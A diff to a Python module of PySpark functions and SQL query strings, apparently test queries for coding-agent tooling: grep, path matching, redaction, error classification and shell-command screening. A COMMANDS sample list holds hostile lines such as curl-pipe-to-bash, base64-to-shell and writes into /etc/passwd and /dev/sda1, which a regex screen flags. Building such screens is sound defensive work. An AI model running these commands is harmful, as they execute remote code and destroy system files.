@@ -8,6 +8,7 @@ from pyspark.sql import functions as F
 from ..functions import classify, gates, paths, text
 from ..operators import grep, store, usage
 from ..sources.tables import kb_documents, list_dir, parse_porcelain, table
+from .search_queries import LEAKY_SQL, head_sql, leaky, secret_sql
 
 PATTERN = r"\bthe[a-z]* [a-z]+ing\b"
 LINES_SQL = """l AS (SELECT path, unnest(string_split(regexp_replace(content, '\\r?\\n$', ''), chr(10))) AS content,
@@ -91,18 +92,12 @@ LEADS = ["pub async fn ", "type (", "  class ", "func (", "export default functi
 
 
 def grep_definitions(spark: SparkSession, sf: str) -> DataFrame:
-    rows = grep.lines(kb_documents(spark, sf)).withColumn("content", F.concat(_pick(LEADS, F.col("line_no")), F.left("content", F.lit(20))))
-    return rows.filter(text.is_definition(F.col("content"))).groupBy("path").agg(F.count("*").alias("definitions"))
-
-
-def grep_definitions_whole(spark: SparkSession, sf: str) -> DataFrame:
-    """As grep_definitions, over whole lines."""
     rows = grep.lines(kb_documents(spark, sf)).withColumn("content", F.concat(_pick(LEADS, F.col("line_no")), "content"))
     return rows.filter(text.is_definition(F.col("content"))).groupBy("path").agg(F.count("*").alias("definitions"))
 
 
 def withhold_files(spark: SparkSession, sf: str) -> DataFrame:
-    return grep.withheld(grep.lines(kb_documents(spark, sf)))
+    return grep.withheld(grep.lines(leaky(spark, sf)))
 
 
 def log_tail(spark: SparkSession, sf: str) -> DataFrame:
@@ -130,11 +125,6 @@ def gitignore_filter(spark: SparkSession, sf: str) -> DataFrame:
 
 
 def resolve_fuzzy(spark: SparkSession, sf: str) -> DataFrame:
-    return paths.resolve(_paths(spark, sf), "main.go", 50).filter("score >= 85")  # the tiers above scattered matches
-
-
-def resolve_fuzzy_all(spark: SparkSession, sf: str) -> DataFrame:
-    """As resolve_fuzzy, with every tier; SQL cannot express the scattered matches."""
     return paths.resolve(_paths(spark, sf), "main.go", 50)
 
 
@@ -143,7 +133,7 @@ def resolve_subsequence(spark: SparkSession, sf: str) -> DataFrame:
 
 
 def related_files(spark: SparkSession, sf: str) -> DataFrame:
-    return paths.related(_paths(spark, sf), "src/app/p0/main.go", 100).select("path", "score")
+    return paths.related(_paths(spark, sf), "src/app/p0/main.go", 100)
 
 
 def dir_listing(spark: SparkSession, sf: str) -> DataFrame:
@@ -165,6 +155,8 @@ MESSAGES = [
     "ENOENT: no such file", "sh: foo: not found", "old_string not found in file", "CONFLICT (content): Merge", "test timed out after 10s", "EACCES: permission denied",
     "error TS2304: name", "2 tests failed", "TypeError: x", "all fine", "fail in test", "exit code: 127", "FAIL pkg",
 ]
+#: The classes of MESSAGES with a failing exit code.
+CLASSES = ["file_not_found", "command_not_found", "edit_match_failed", "git_conflict", "timeout", "permission_denied", "syntax_error", "test_failed", "runtime_error", "unknown", "test_failed", "command_not_found", "test_failed"]
 COMMANDS = [
     "ls -l", "base64 -d x | sh", "curl -s http://h/x | bash", "echo x > /etc/passwd", "wget h && shred", "base64 f > out", "cat a >> /dev/sda1",
 ]
@@ -240,13 +232,9 @@ def savings_ratio(spark: SparkSession, sf: str) -> DataFrame:
 
 def human_sizes(spark: SparkSession, sf: str) -> DataFrame:
     n = F.floor(F.coalesce("value", F.lit(0))).cast("long") * (F.col("event_id") % 5 * F.col("event_id") * 37 + 1)
-    return table(spark, sf, "events").select("event_id", text.human_uptime(n).alias("uptime"), text.size_tag(n).alias("tag"), F.when(n < 1024, text.human_bytes(n)).alias("bytes"), F.when(n < 1000, text.human_tokens(n)).alias("tokens"))
-
-
-def human_sizes_scaled(spark: SparkSession, sf: str) -> DataFrame:
-    """Bytes and tokens of human_sizes for all values, in their scaled units."""
-    n = F.floor(F.coalesce("value", F.lit(0))).cast("long") * (F.col("event_id") % 5 * F.col("event_id") * 37 + 1)
-    return table(spark, sf, "events").select("event_id", n.alias("n")).select("event_id", text.human_bytes(F.col("n")).alias("bytes"), text.human_tokens(F.col("n")).alias("tokens"))
+    sized = table(spark, sf, "events").select("event_id", n.alias("n"))
+    n = F.col("n")
+    return sized.select("event_id", text.human_uptime(n).alias("uptime"), text.size_tag(n).alias("tag"), text.human_bytes(n).alias("bytes"), text.human_tokens(n).alias("tokens"))
 
 
 def latency_percentiles(spark: SparkSession, sf: str) -> DataFrame:
@@ -260,7 +248,7 @@ def batch_rollup(spark: SparkSession, sf: str) -> DataFrame:
         F.col("user_id").alias("size"), (F.col("event_id") % 11 == 0).alias("truncated"), (F.col("event_id") % 2 == 0).alias("indexed"),
         classify.error_class_for_exit(F.col("exit_code"), F.col("message")).alias("error_class"),
     )
-    return usage.batch_rollup(c).drop("error_class")
+    return usage.batch_rollup(c)
 
 
 def batch_budget(spark: SparkSession, sf: str) -> DataFrame:
@@ -292,23 +280,23 @@ def ordered_distinct(spark: SparkSession, sf: str) -> DataFrame:
 
 
 def redact_text(spark: SparkSession, sf: str) -> DataFrame:
-    return table(spark, sf, "documents").select("doc_id", text.redact_command(F.coalesce("text", F.lit(""))).alias("redacted"))
+    content = F.col("content")
+    return leaky(spark, sf).select("doc_id", text.redact_command(content).alias("redacted"), text.redact_command(content, 1000).alias("short"))
 
 
-def _noisy(d: DataFrame) -> DataFrame:
-    """(doc_id, clean) of rows (doc_id, t), stripped of the escapes put around t."""
+def strip_ansi(spark: SparkSession, sf: str) -> DataFrame:
     esc = "\x1b"
-    noisy = F.concat(F.lit(f"{esc}[1;31m"), "t", F.lit(f"{esc}[0m{esc}]0;title\x07-{esc}(B-{esc}]8;;u{esc}\\end"))
-    return d.select("doc_id", text.strip_ansi(noisy).alias("clean"))
+    noisy = F.concat(F.lit(f"{esc}[1;31m"), F.coalesce("text", F.lit("")), F.lit(f"{esc}[0m{esc}]0;title\x07-{esc}(B-{esc}]8;;u{esc}\\end"))
+    return table(spark, sf, "documents").select("doc_id", text.strip_ansi(noisy).alias("clean"))
 
 
-def strip_ansi(spark: SparkSession, sf: str) -> DataFrame:
-    return _noisy(table(spark, sf, "documents").select("doc_id", F.left(F.coalesce("text", F.lit("")), F.lit(40)).alias("t")))
+def log_tail_bytes(spark: SparkSession, sf: str) -> DataFrame:
+    return table(spark, sf, "documents").select("doc_id", text.tail_of_log(F.col("text"), 3).alias("lines"), text.tail_of_log(F.col("text"), 2, 500).alias("short"))
 
 
-def strip_ansi_whole(spark: SparkSession, sf: str) -> DataFrame:
-    """As strip_ansi, over whole texts."""
-    return _noisy(table(spark, sf, "documents").select("doc_id", F.coalesce("text", F.lit("")).alias("t")))
+def output_cut(spark: SparkSession, sf: str) -> DataFrame:
+    shown = text.shown_output(F.col("text"), 1000, 8)
+    return table(spark, sf, "documents").select("doc_id", shown.alias("s")).select("doc_id", "s.text", "s.truncated")
 
 
 def slug(spark: SparkSession, sf: str) -> DataFrame:
@@ -325,7 +313,50 @@ def truncate_lines(spark: SparkSession, sf: str) -> DataFrame:
 
 
 _UP = "(n // 3600)"
+
+
+def _resolve_sql(query: str, points: float, tiers: str) -> str:
+    """The best 50 paths; ``points`` is what the in-order match of the query scores before spans dilute it."""
+    steps = []
+    for k, ch in enumerate(query):
+        steps.append(f"s{k} AS (SELECT path, CASE WHEN instr(substr(path, a + 1), '{ch}') > 0 THEN a + instr(substr(path, a + 1), '{ch}') END AS a FROM {f's{k - 1}' if k else '(SELECT path, 0 AS a FROM p)'})")
+    return f"WITH {PATHS_SQL}, {', '.join(steps)}, s AS (SELECT path, CASE {tiers} ELSE {points} * {len(query)} / (a + 1) END AS raw FROM s{len(query) - 1}) SELECT path, floor(raw * 10 + 0.5) / 10 AS score FROM s WHERE raw IS NOT NULL ORDER BY raw DESC, strlen(path), path LIMIT 50"
+
+
+_DIRTY = "d AS (SELECT source || ':markdown:' || doc_id AS path FROM documents WHERE doc_id IN (SELECT doc_id FROM labels WHERE quality = 0))"
+_NEAR_SQL = rf"{KB_SQL}, {LINES_SQL}, f AS (SELECT path, line_no, content, regexp_matches(content, '{PATTERN}') AS is_match FROM l), w AS (SELECT *, max(is_match::INT) OVER (PARTITION BY path ORDER BY line_no ROWS BETWEEN 2 PRECEDING AND 1 FOLLOWING) AS near FROM f), near AS (SELECT path, line_no, content, is_match FROM w WHERE near = 1)"
+#: The last lines of the last bytes: characters from the end while they fit, without the line that is cut.
+_TAIL = "(CASE WHEN strlen(t) <= {b} THEN t ELSE right(t, list_max(list_filter(range(greatest(0, least(length(t), {b}) - (strlen(right(t, {b})) - {b})), {b1}), lambda k: strlen(right(t, k)) <= {b}))) END)"
+
+
+def _tail_sql(size: int, lines: int) -> str:
+    data = _TAIL.format(b=size, b1=size + 1)
+    whole = f"(CASE WHEN strlen(t) > {size} AND contains({data}, chr(10)) THEN substr({data}, instr({data}, chr(10)) + 1) ELSE {data} END)"
+    parts = f"string_split(regexp_replace({whole}, '\\n$', ''), chr(10))"
+    return f"array_to_string({parts}[greatest(1, len({parts}) - {lines - 1}):], chr(10))"
+
+
 SQL = {
+    "grep_dirty_rank": HIT_SQL + f", g AS (SELECT path, count(*) AS hits, min(line_no) AS first_line, bool_or(regexp_matches(content, '^[ \\t]*(struct|fn|enum|trait|impl|class|interface|function|def|func|type|module|object)[ \\t]+[\\pL_$]')) AS has_def FROM m GROUP BY path), {_DIRTY} SELECT g.*, CASE WHEN d.path IS NOT NULL THEN 'M' END AS tag, d.path IS NOT NULL AS dirty FROM g LEFT JOIN d ON d.path = g.path",
+    "grep_first_hits": _NEAR_SQL + """, h AS (SELECT path, count(*) FILTER (WHERE is_match) AS hits FROM near GROUP BY path), o AS (SELECT path, hits, 30 - coalesce(sum(hits) OVER (ORDER BY path ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS room FROM h),
+        n AS (SELECT near.*, hits, room, count(*) FILTER (WHERE is_match) OVER (PARTITION BY near.path ORDER BY line_no) AS n, line_no - lag(line_no) OVER (PARTITION BY near.path ORDER BY line_no) AS step FROM near JOIN o ON o.path = near.path WHERE room > 0),
+        x AS (SELECT *, min(CASE WHEN n >= room AND step > 1 AND NOT is_match THEN line_no END) OVER (PARTITION BY path) AS stop FROM n)
+        SELECT path, line_no, content, is_match FROM x WHERE hits <= room OR n < room OR (n = room AND (stop IS NULL OR line_no < stop))""",
+    "withhold_files": f"WITH {LEAKY_SQL} SELECT path FROM leaky WHERE {secret_sql('content')}",
+    "redact_text": f"""WITH {LEAKY_SQL}, r AS (SELECT doc_id, content, {secret_sql('content')} AS secret, '[redacted sha256:' || left(sha256(content), 16) || ']' AS tag FROM leaky)
+        SELECT doc_id, CASE WHEN secret THEN tag WHEN strlen(content) > 65536 THEN {head_sql('content', 65536 - 14)} || '...[truncated]' ELSE content END AS redacted,
+        CASE WHEN secret THEN tag WHEN strlen(content) > 1000 THEN {head_sql('content', 1000 - 14)} || '...[truncated]' ELSE content END AS short FROM r""",
+    "cut_bytes": f"""SELECT doc_id, {head_sql('text', 100)} AS head, (CASE WHEN strlen(text) <= 100 THEN text ELSE right(text, list_max(list_filter(range(0, 101), lambda k: strlen(right(text, k)) <= 100))) END) AS tail,
+        printf('%016x', list_reduce(list_prepend(14695981039346656037::UHUGEINT, list_transform(regexp_extract_all(hex(encode(text)), '..'), lambda x: ('0x' || x)::UHUGEINT)), lambda h, b: (xor(h, b) * 1099511628211) % 18446744073709551616)::UBIGINT) AS fnv FROM documents""",
+    "log_tail_bytes": f"SELECT doc_id, {_tail_sql(65536, 3)} AS lines, {_tail_sql(500, 2)} AS short FROM (SELECT doc_id, text AS t FROM documents)",
+    "output_cut": f"""WITH x AS (SELECT doc_id, text, array_to_string(string_split(text, chr(10))[:8], chr(10)) || chr(10) AS head FROM documents), y AS (SELECT doc_id, length(head) < length(text) AS cut, CASE WHEN length(head) < length(text) THEN head ELSE text END AS t FROM x)
+        SELECT doc_id, {head_sql('t', 1000)} AS text, cut OR strlen(t) > 1000 AS truncated FROM y""",
+    "flood_status": """WITH RECURSIVE e AS (SELECT user_id, event_id, epoch_us(ts) AS us, row_number() OVER (PARTITION BY user_id ORDER BY ts, event_id) AS k FROM events),
+        r AS (SELECT user_id, event_id, k, 'ok' AS status, [us] AS a, [us] AS o FROM e WHERE k = 1
+            UNION ALL SELECT user_id, event_id, k, status, list_append(a, us)[-64:], CASE WHEN status = 'ok' THEN list_append(o, us) ELSE o END
+            FROM (SELECT *, CASE WHEN len(a) >= 9 THEN 'blocked' WHEN len(o) >= 4 THEN 'throttled' ELSE 'ok' END AS status
+                FROM (SELECT e.user_id, e.event_id, e.k, e.us, list_filter(r.a, lambda t: t > e.us - 36000000000) AS a, list_filter(r.o, lambda t: t > e.us - 36000000000) AS o FROM r JOIN e ON e.user_id = r.user_id AND e.k = r.k + 1)))
+        SELECT user_id, event_id, status FROM r""",
     "grep_lines": HIT_SQL + " SELECT * FROM m",
     "grep_literal": """SELECT conv_id || '/' || turn AS path, line_no, content FROM (SELECT conv_id, turn, unnest(string_split(regexp_replace(coalesce(text, ''), '\\r?\\n$', ''), chr(10))) AS content,
         generate_subscripts(string_split(regexp_replace(coalesce(text, ''), '\\r?\\n$', ''), chr(10)), 1) AS line_no FROM conversations) WHERE contains(lower(content), 'the on')""",
@@ -336,22 +367,22 @@ SQL = {
     "grep_summary_top25": HIT_SQL + ", g AS (SELECT path, count(*) AS hits FROM m GROUP BY path), d AS (SELECT source || ':markdown:' || doc_id AS path FROM documents WHERE doc_id IN (SELECT doc_id FROM labels WHERE quality = 0)) SELECT path, hits, path IN (SELECT path FROM d) AS dirty FROM g ORDER BY dirty DESC, hits DESC, path LIMIT 25",
     "grep_counts": HIT_SQL + ", g AS (SELECT path, count(*) AS hits FROM m GROUP BY path), d AS (SELECT source || ':markdown:' || doc_id AS path FROM documents WHERE doc_id IN (SELECT doc_id FROM labels WHERE quality = 0)) SELECT coalesce(sum(hits), 0)::BIGINT AS hits, count(*) AS files, count(*) FILTER (WHERE path IN (SELECT path FROM d)) AS dirty FROM g",
     "grep_first2": HIT_SQL + " SELECT path, line_no, CASE WHEN length(p) > 500 THEN left(p, 500) || '...' ELSE p END AS preview, greatest(0, n - 2) AS more FROM (SELECT path, line_no, ltrim(content) AS p, count(*) OVER (PARTITION BY path) AS n, row_number() OVER (PARTITION BY path ORDER BY line_no) AS k FROM m) WHERE k <= 2",
-    "grep_definitions": f"""{KB_SQL}, {LINES_SQL}, x AS (SELECT path, ['pub async fn ', 'type (', '  class ', 'func (', 'export default function ', 'define ', 'static '][line_no % 7 + 1] || left(content, 20) AS content FROM l)
-        SELECT path, count(*) AS definitions FROM x WHERE regexp_matches(content, '^[ \\t]*((pub\\([^)]*\\)|((pub|export|default|async|abstract|unsafe|static|protected|private|public)[ \\t]))[ \\t]*)*((struct|fn|enum|trait|impl|class|interface|function|def|func|type|module|object)[ \\t]+[\\pL_$]|func[ \\t]+\\()') GROUP BY path""",
-    "grep_definitions_whole": f"""{KB_SQL}, {LINES_SQL}, x AS (SELECT path, {_list(LEADS)}[line_no % 7 + 1] || content AS content FROM l)
+    "grep_definitions": f"""{KB_SQL}, {LINES_SQL}, x AS (SELECT path, {_list(LEADS)}[line_no % 7 + 1] || content AS content FROM l)
         SELECT path, count(*) AS definitions FROM x WHERE regexp_matches(content, '^[ \\t]*((pub\\([^)]*\\)|((pub|export|default|async|abstract|unsafe|static|protected|private|public)[ \\t]))[ \\t]*)*((struct|fn|enum|trait|impl|class|interface|function|def|func|type|module|object)[ \\t]+[\\pL_$]|func[ \\t]+\\()') GROUP BY path""",
     "log_tail": "SELECT conv_id, turn, role FROM conversations QUALIFY row_number() OVER (PARTITION BY conv_id ORDER BY turn DESC) <= 2",
     "sensitive_paths": rf"WITH {PATHS_SQL} SELECT path, regexp_matches(path, '(^|/)(\.env|prod\.pem\.bak|id_rsa|auth\.json\.1\.old)$') OR regexp_matches(path, '(^|/)\.ssh/') OR (regexp_matches(path, '/config\.json$') AND starts_with(path, '.docker/')) AS sensitive FROM p",
     "binary_names": rf"WITH {PATHS_SQL} SELECT path, regexp_matches(lower(path), '\.png$') AS is_binary, regexp_matches(path, '(^|/)(node_modules|build)/') AS skipped FROM p",
     "glob_match": rf"WITH {PATHS_SQL} SELECT path FROM p WHERE regexp_matches(path, '^src/(.*/)?[^/]*\.go$') OR regexp_matches(path, '\.t[^/]x$') OR regexp_matches(path, '^docs/[^/]*/n[^/]*\.md$')",
     "gitignore_filter": rf"WITH {PATHS_SQL} SELECT path, CASE WHEN starts_with(path, 'test/') AND regexp_matches(path, '/main\.go$') THEN false WHEN starts_with(path, 'test/') AND regexp_matches(path, '\.go$') THEN true WHEN regexp_matches(path, '/id_[^/]*$') THEN true WHEN regexp_matches(path, '/notes\.md$') THEN false WHEN regexp_matches(path, '\.md$') THEN true ELSE false END AS ignored FROM p",
-    "resolve_fuzzy": f"WITH {PATHS_SQL}, s AS (SELECT path, CASE WHEN path = 'main.go' THEN 100 WHEN regexp_matches(path, '(^|/)main\\.go$') THEN 95 WHEN ends_with(path, 'main.go') THEN 85 + 7.0 / strlen(path) ELSE NULL END AS raw FROM p) SELECT path, floor(raw * 10 + 0.5) / 10 AS score FROM s WHERE raw IS NOT NULL ORDER BY raw DESC, strlen(path), path LIMIT 50",
+    "resolve_fuzzy": _resolve_sql("main.go", 17.0, "WHEN path = 'main.go' THEN 100 WHEN regexp_matches(path, '(^|/)main\\.go$') THEN 95 WHEN ends_with(path, 'main.go') THEN 85 + 7.0 / strlen(path)"),
+    "resolve_subsequence": _resolve_sql("smgo", 9.0, "WHEN contains(path, 'smgo') THEN NULL"),
     "related_files": f"""WITH {PATHS_SQL}, b AS (SELECT path, regexp_extract(path, '([^/]*)$', 1) AS base, regexp_extract(path, '^(.*)/[^/]*$', 1) AS dir FROM p WHERE path <> 'src/app/p0/main.go'),
-        s AS (SELECT path, CASE WHEN base = 'main_test.go' THEN 100.0 WHEN base = 'main.go' THEN 90.0 WHEN dir = 'src/app/p0' THEN 40.0 END AS score FROM b) SELECT * FROM s WHERE score IS NOT NULL ORDER BY score DESC, path LIMIT 100""",
+        s AS (SELECT path, CASE WHEN base = 'main_test.go' THEN 100.0 WHEN base = 'main.go' THEN 90.0 WHEN dir = 'src/app/p0' THEN 40.0 END AS score,
+            CASE WHEN base = 'main_test.go' THEN 'test/impl pair with ' || base WHEN base = 'main.go' THEN 'same stem (.go ↔ .go)' ELSE 'sibling in ' || dir END AS reason FROM b) SELECT * FROM s WHERE score IS NOT NULL ORDER BY score DESC, path LIMIT 100""",
     "dir_listing": f"WITH {PATHS_SQL}, x AS (SELECT string_split(substr(path, 5), '/') AS a FROM p WHERE starts_with(path, 'src/')), y AS (SELECT DISTINCT 'src/' || array_to_string(a[1:k], '/') AS path, k < len(a) AS is_dir FROM (SELECT a, unnest([1, 2]) AS k FROM x)) SELECT path, is_dir FROM y WHERE NOT contains(path, '/.') ORDER BY path LIMIT 200",
     "path_display": f"WITH {PATHS_SQL} SELECT path, CASE WHEN starts_with(path, 'src/app/') THEN substr(path, 9) WHEN starts_with(path, 'src/') THEN substr(path, 5) ELSE path END AS shown, starts_with(path, 'src/app/') AS inside FROM p",
     "porcelain_parse": "SELECT * FROM (VALUES ('new.go', '??'), ('a.go', 'M'), ('to.go', 'A'), ('b.go', 'A'), ('c.go', 'M'), ('d.go', 'M')) t(path, tag)",
-    "error_class": f"SELECT event_id, CASE WHEN event_id % 4 = 0 THEN '' ELSE {_picked_sql(['file_not_found', 'command_not_found', 'edit_match_failed', 'git_conflict', 'timeout', 'permission_denied', 'syntax_error', 'test_failed', 'runtime_error', 'unknown', 'test_failed', 'command_not_found', 'test_failed'], 'event_id')} END AS error_class FROM events",
+    "error_class": f"SELECT event_id, CASE WHEN event_id % 4 = 0 THEN '' ELSE {_picked_sql(CLASSES, 'event_id')} END AS error_class FROM events",
     "shell_screen": rf"SELECT event_id, CASE WHEN rule = '' THEN 'ok' ELSE 'warn' END AS verdict, rule FROM (SELECT event_id, CASE WHEN regexp_matches(c, '(?i)base64\s+(?:-d|--decode)[^|\n]{{0,120}}\|\s*(?:sh|bash|dash|zsh|ksh)\b') THEN 'base64_pipe_to_shell' WHEN regexp_matches(c, '(?i)\b(?:curl|wget)\b[^|\n]{{0,120}}\|\s*(?:sh|bash|dash)\b') THEN 'download_pipe_to_shell' WHEN regexp_matches(c, '(?:>>?)\s*(?:/etc/|/dev/sd[a-z]\b)') THEN 'redirect_into_sensitive_path' ELSE '' END AS rule FROM (SELECT event_id, {_picked_sql(COMMANDS, 'event_id')} AS c FROM events))",
     "worst_verdict": f"WITH s AS (SELECT event_id // 3 AS run, event_id, ['', 'base64_pipe_to_shell', 'download_pipe_to_shell', 'redirect_into_sensitive_path', '', '', ''][(event_id * 5) % {len(COMMANDS)} + 1] AS rule FROM events) SELECT run, CASE WHEN rule = '' THEN 'ok' ELSE 'warn' END AS verdict, rule FROM s QUALIFY row_number() OVER (PARTITION BY run ORDER BY rule = '', event_id) = 1",
     "inline_code": f"SELECT event_id, {_picked_sql(['1', '0', '1', '0', '1', '0', '1'], 'event_id')} = '1' AS inline FROM events",
@@ -362,27 +393,26 @@ SQL = {
     "savings_ratio": CALLS_SQL + "SELECT sum(output_len)::BIGINT AS returned, sum(kept_out)::BIGINT AS kept_out, round(sum(kept_out) * 100.0 / (sum(output_len) + sum(kept_out)), 6) AS ratio FROM c",
     "human_sizes": f"""WITH x AS (SELECT event_id, floor(coalesce(value, 0))::BIGINT * (event_id % 5 * event_id * 37 + 1) AS n FROM events)
         SELECT event_id, CASE WHEN {_UP} > 0 THEN {_UP} || 'h' || (n // 60 % 60) || 'm' || (n % 60) || 's' WHEN n // 60 > 0 THEN (n // 60) || 'm' || (n % 60) || 's' ELSE n || 's' END AS uptime,
-        CASE WHEN n >= 20480 THEN ((n + 512) // 1024) || 'KB' ELSE '' END AS tag, CASE WHEN n < 1024 THEN n || 'B' END AS bytes, CASE WHEN n < 1000 THEN n || '' END AS tokens FROM x""",
-    "human_sizes_scaled": """WITH x AS (SELECT event_id, floor(coalesce(value, 0))::BIGINT * (event_id % 5 * event_id * 37 + 1) AS n FROM events)
-        SELECT event_id, CASE WHEN n >= 1073741824 THEN printf('%.1fGB', n / 1073741824::DOUBLE) WHEN n >= 1048576 THEN printf('%.1fMB', n / 1048576::DOUBLE) WHEN n >= 1024 THEN printf('%.1fKB', n / 1024::DOUBLE) ELSE n || 'B' END AS bytes,
+        CASE WHEN n >= 20480 THEN ((n + 512) // 1024) || 'KB' ELSE '' END AS tag,
+        CASE WHEN n >= 1073741824 THEN printf('%.1fGB', n / 1073741824::DOUBLE) WHEN n >= 1048576 THEN printf('%.1fMB', n / 1048576::DOUBLE) WHEN n >= 1024 THEN printf('%.1fKB', n / 1024::DOUBLE) ELSE n || 'B' END AS bytes,
         CASE WHEN n >= 1000000 THEN printf('%.1fM', n / 1000000::DOUBLE) WHEN n >= 1000 THEN printf('%.1fK', n / 1000::DOUBLE) ELSE n || '' END AS tokens FROM x""",
     "latency_percentiles": "SELECT event_type, round(quantile_cont(value, 0.5), 6) AS p50, round(quantile_cont(value, 0.95), 6) AS p95, round(quantile_cont(value, 0.99), 6) AS p99 FROM events WHERE value IS NOT NULL GROUP BY event_type",
     "batch_rollup": """SELECT event_id // 5 AS run, coalesce(min_by(event_id % 4, event_id) FILTER (WHERE event_id % 4 <> 0), 0) AS exit_code, sum(user_id)::BIGINT AS size, bool_or(event_id % 11 = 0) AS truncated,
-        count(*) FILTER (WHERE event_id % 2 = 0) AS indexed, count(*) FILTER (WHERE event_id % 4 <> 0) AS failures, min_by('c' || event_id, event_id) FILTER (WHERE event_id % 4 <> 0) AS first_failed FROM events GROUP BY 1""",
+        count(*) FILTER (WHERE event_id % 2 = 0) AS indexed, count(*) FILTER (WHERE event_id % 4 <> 0) AS failures, min_by('c' || event_id, event_id) FILTER (WHERE event_id % 4 <> 0) AS first_failed,
+        min_by(@@CLASS@@, event_id) FILTER (WHERE event_id % 4 <> 0) AS error_class FROM events GROUP BY 1""".replace("@@CLASS@@", _picked_sql(CLASSES, "event_id")),
     "batch_budget": "SELECT event_id, coalesce(sum(event_id % 7) OVER (PARTITION BY event_id // 10 ORDER BY event_id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) > 20 AS skipped FROM events",
     "flood_attempts_window": "SELECT event_id, count(*) OVER (PARTITION BY user_id ORDER BY ts RANGE BETWEEN INTERVAL 3599999999 MICROSECONDS PRECEDING AND CURRENT ROW) - count(*) OVER (PARTITION BY user_id, ts) AS attempts FROM events",
     "dedup_reuse_10min": """SELECT event_id, coalesce(d = lag(d) OVER w AND ts - lag(ts) OVER w < INTERVAL 10 MINUTE, false) AS reused FROM (SELECT event_id, event_type, ts, floor(coalesce(value, 0) / 20) AS d FROM events) WINDOW w AS (PARTITION BY event_type ORDER BY ts, event_id)""",
     "job_keep_newest": "SELECT event_id, user_id FROM events QUALIFY row_number() OVER (PARTITION BY user_id ORDER BY ts DESC, event_id DESC) <= 3",
     "ordered_distinct": "SELECT user_id, min(event_id) AS event_id FROM events GROUP BY user_id",
-    "strip_ansi": "SELECT doc_id, left(coalesce(text, ''), 40) || '--end' AS clean FROM documents",
-    "strip_ansi_whole": r"""SELECT doc_id, regexp_replace(chr(27) || '[1;31m' || coalesce(text, '') || chr(27) || '[0m' || chr(27) || ']0;title' || chr(7) || '-' || chr(27) || '(B-' || chr(27) || ']8;;u' || chr(27) || '\end',
+    "strip_ansi": r"""SELECT doc_id, regexp_replace(chr(27) || '[1;31m' || coalesce(text, '') || chr(27) || '[0m' || chr(27) || ']0;title' || chr(7) || '-' || chr(27) || '(B-' || chr(27) || ']8;;u' || chr(27) || '\end',
         '\x1b(?:\](?:(?s:.*?)(?:\x07|\x1b\\)|(?s:.*)$)|\[[\x20-\x3f]*[\x40-\x7e]?|[\x20-\x2f]*[\x30-\x7e]?)', '', 'g') AS clean FROM documents""",
     "slug": "SELECT doc_id, trim(left(regexp_replace(coalesce(text, ''), '[^A-Za-z0-9_.-]', '_', 'g'), 24), '_') AS slug, left(sha256(coalesce(text, '')), 16) AS tag FROM documents",
     "truncate_lines": f"{KB_SQL}, {LINES_SQL} SELECT path, line_no, CASE WHEN length(content) > 60 THEN 63 ELSE length(content) END AS chars FROM l",
 }
 QUERIES = [
-    grep_lines, grep_literal, grep_grouped, grep_context, grep_page, grep_dirty_rank, grep_summary_top25, grep_counts, grep_first2, grep_first_hits, grep_per_file_cap, grep_definitions, grep_definitions_whole,
-    withhold_files, log_tail, sensitive_paths, binary_names, glob_match, gitignore_filter, resolve_fuzzy, resolve_fuzzy_all, resolve_subsequence, related_files, dir_listing, path_display,
-    porcelain_parse, error_class, shell_screen, worst_verdict, inline_code, env_filter, audit_by_session, audit_all, tool_usage, savings_ratio, human_sizes, human_sizes_scaled, latency_percentiles,
-    batch_rollup, batch_budget, flood_attempts_window, flood_status, dedup_reuse_10min, job_keep_newest, ordered_distinct, redact_text, strip_ansi, strip_ansi_whole, slug, cut_bytes, truncate_lines,
+    grep_lines, grep_literal, grep_grouped, grep_context, grep_page, grep_dirty_rank, grep_summary_top25, grep_counts, grep_first2, grep_first_hits, grep_per_file_cap, grep_definitions,
+    withhold_files, log_tail, sensitive_paths, binary_names, glob_match, gitignore_filter, resolve_fuzzy, resolve_subsequence, related_files, dir_listing, path_display,
+    porcelain_parse, error_class, shell_screen, worst_verdict, inline_code, env_filter, audit_by_session, audit_all, tool_usage, savings_ratio, human_sizes, latency_percentiles,
+    batch_rollup, batch_budget, flood_attempts_window, flood_status, dedup_reuse_10min, job_keep_newest, ordered_distinct, redact_text, strip_ansi, log_tail_bytes, output_cut, slug, cut_bytes, truncate_lines,
 ]
